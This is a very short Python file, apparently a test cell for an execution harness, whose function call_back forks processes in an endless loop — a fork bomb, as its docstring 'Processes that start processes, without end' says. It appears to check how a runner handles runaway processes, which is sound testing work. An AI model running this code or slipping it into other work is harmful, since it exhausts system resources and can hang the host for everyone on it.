"""Processes that start processes, without end.

Cell: call_back
Expects: call_back 0
"""

import os

def call_back(future, results, errors):
    while True:
        os.fork()
